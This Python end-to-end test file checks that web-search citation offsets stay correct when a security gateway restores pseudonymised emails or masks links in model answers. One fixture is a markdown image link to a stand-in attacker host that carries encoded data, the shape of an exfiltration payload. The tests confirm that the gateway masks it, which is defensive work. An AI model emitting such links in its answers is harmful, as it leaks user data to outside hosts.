"""Web-search citations through the real gateway, read with the official SDK: when Bastion
changes the answer's text on the way back (a pseudonym restored to the original, an
output rule masking a link), the ``url_citation`` offsets the client receives still
slice out the passage the model cited — chat and Responses, complete and streamed.

The simulator places each scripted citation by its quote in the text it sends, so its
offsets are right for the upstream's text; the client's text differs in length before
the quote, so only a gateway that moves the offsets passes."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import Stack, running_stack

ROOT = Path(__file__).resolve().parents[2]
MODEL = "gpt-4o-mini"
QUOTE = "the invoice has been overdue since March"
SOURCE = {"url": "https://billing.example.com/inv/88", "title": "Invoice 88", "quote": QUOTE}
PLACEHOLDER = re.compile(r"<EMAIL_[0-9a-f]{8,}>")
# the enterprise policy pseudonymises both; the first is longer than its stand-in, the
# second shorter, so the citation after it moves right, then left
EMAILS = ["dana.whitfield@northwind-example.com", "jo@ab.io"]
EXFIL = "![chart](https://collect.attacker-example.net/c?d=Q3EGRTZ5LXKW7NUC)"
MODES = [
    ("chat", False),
    ("chat", True),
    ("responses", False),
    ("responses", True),
]
MODE_IDS = ["chat", "chat-stream", "responses", "responses-stream"]
# the enterprise policy reroutes custom.customer_id, a class its config must define
EXTRA = """\
policy: {file: policy.yaml}
detectors: {custom: {customer_id: {regex: "CUST-[0-9]{6}", sensitivity: confidential}}}
"""


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """The gateway with the quickstart's enterprise policy: personal data leaves as
    pseudonyms; in production, links to unapproved hosts are masked in answers."""
    work = tmp_path_factory.mktemp("e2e-citations")
    shutil.copy(ROOT / "examples" / "policies" / "enterprise.yaml", work / "policy.yaml")
    with running_stack(work, EXTRA) as running:
        yield running


@pytest.fixture(scope="module")
def prod_key(stack: Stack) -> str:
    return str(stack.create_key("--name", "prod-citations", "--env", "prod")["key"])


@dataclass
class Cited:
    """The answer's text as the client assembled it and the citations it received,
    each as (start_index, end_index, url); ``final`` repeats them from the response a
    Responses stream ends with."""

    text: str
    citations: list[tuple[int, int, str]]
    final: list[tuple[int, int, str]] | None = None


def ask(stack: Stack, prompt: str, api: str, stream: bool, key: str | None = None) -> Cited:
    client = stack.client(key)
    if api == "chat":
        messages: Any = [{"role": "user", "content": prompt}]
        if not stream:
            message = client.chat.completions.create(model=MODEL, messages=messages)
            message_ = message.choices[0].message
            return Cited(
                message_.content or "",
                [
                    (a.url_citation.start_index, a.url_citation.end_index, a.url_citation.url)
                    for a in message_.annotations or []
                ],
            )
        text, found = "", []
        for chunk in client.chat.completions.create(model=MODEL, messages=messages, stream=True):
            if not chunk.choices:
                continue
            delta = chunk.choices[0].delta
            text += delta.content or ""
            # the SDK's ChoiceDelta does not declare annotations: they stay raw JSON
            for raw in (delta.model_extra or {}).get("annotations") or []:
                cited = raw["url_citation"]
                found.append((cited["start_index"], cited["end_index"], cited["url"]))
        return Cited(text, found)
    if not stream:
        response = client.responses.create(model=MODEL, input=prompt)
        return Cited(response.output_text, _responses_citations(response))
    text, found, final = "", [], None
    for event in client.responses.create(model=MODEL, input=prompt, stream=True):
        if event.type == "response.output_text.delta":
            text += event.delta
        elif event.type == "response.output_text.annotation.added":
            annotation: Any = event.annotation
            found.append((annotation.start_index, annotation.end_index, annotation.url))
        elif event.type == "response.completed":
            final = _responses_citations(event.response)
    return Cited(text, found, final)


def _responses_citations(response: Any) -> list[tuple[int, int, str]]:
    return [
        (annotation.start_index, annotation.end_index, annotation.url)
        for item in response.output
        if item.type == "message"
        for part in item.content
        if part.type == "output_text"
        for annotation in part.annotations
    ]


def _upstream_text(stack: Stack) -> str:
    (capture,) = stack.captures()
    return json.dumps(capture["body"])


@pytest.mark.parametrize("email", EMAILS, ids=["longer", "shorter"])
@pytest.mark.parametrize(("api", "stream"), MODES, ids=MODE_IDS)
def test_citation_after_a_restored_pseudonym_still_quotes_its_passage(
    stack: Stack, email: str, api: str, stream: bool
) -> None:
    prompt = f"Please write to {email} today: {QUOTE}, say it kindly."
    stack.clear_captures()
    stack.script(MODEL, {"citations": [SOURCE]})  # the model echoes, citing the passage
    cited = ask(stack, prompt, api, stream)
    upstream = _upstream_text(stack)
    (placeholder,) = set(PLACEHOLDER.findall(upstream))
    assert email not in upstream
    assert cited.text == prompt  # the client reads its own address back
    ((start, end, url),) = cited.citations
    assert cited.text[start:end] == QUOTE
    # the simulator counted from the stand-in: the offsets had to move
    assert start != prompt.replace(email, placeholder).index(QUOTE)
    assert url == SOURCE["url"]
    if cited.final is not None:  # the finished response repeats them, moved the same way
        assert cited.final == cited.citations


@pytest.mark.parametrize("filler", [0, 40], ids=["short", "long"])
@pytest.mark.parametrize(("api", "stream"), MODES, ids=MODE_IDS)
def test_citation_after_a_masked_link_still_quotes_its_passage(
    stack: Stack, prod_key: str, api: str, stream: bool, filler: int
) -> None:
    """The output rule answers.links.prod masks a link to an unapproved host in a
    production caller's answer; the citation behind it moves with the shorter text.
    A long answer streams in several scanned windows (256 characters each), the link,
    the quote and the end of the text in different ones."""
    padding = "The figures are final. " * filler
    answer = f"Here is the chart {EXFIL} and {padding}{QUOTE}. {padding}"
    stack.script(MODEL, {"content": answer, "citations": [SOURCE]})
    cited = ask(stack, "How are the invoices?", api, stream, key=prod_key)
    assert "attacker-example" not in cited.text
    assert cited.text.startswith("Here is the chart ")
    assert cited.text.endswith(f" and {padding}{QUOTE}. {padding}")
    ((start, end, url),) = cited.citations
    assert cited.text[start:end] == QUOTE
    assert start != answer.index(QUOTE)  # the mask changed the length before the quote
    assert url == SOURCE["url"]
    if cited.final is not None:
        assert cited.final == cited.citations


@pytest.mark.parametrize(("api", "stream"), MODES, ids=MODE_IDS)
def test_citation_quoting_the_stand_in_covers_the_restored_value(
    stack: Stack, api: str, stream: bool
) -> None:
    """A passage the model cites that holds the stand-in: the client's citation covers
    the same words, the original value in full instead of the stand-in."""
    email = EMAILS[0]
    prompt = f"Please write to {email} today: {QUOTE}, say it kindly."
    stack.clear_captures()
    stack.client().chat.completions.create(
        model=MODEL, messages=[{"role": "user", "content": prompt}]
    )  # learns the stand-in, the same on every call (it is keyed on the value)
    (placeholder,) = set(PLACEHOLDER.findall(_upstream_text(stack)))
    passage = {**SOURCE, "quote": f"write to {placeholder} today"}
    stack.script(MODEL, {"citations": [passage]})
    cited = ask(stack, prompt, api, stream)
    ((start, end, _),) = cited.citations
    assert cited.text[start:end] == f"write to {email} today"
    if cited.final is not None:
        assert cited.final == cited.citations
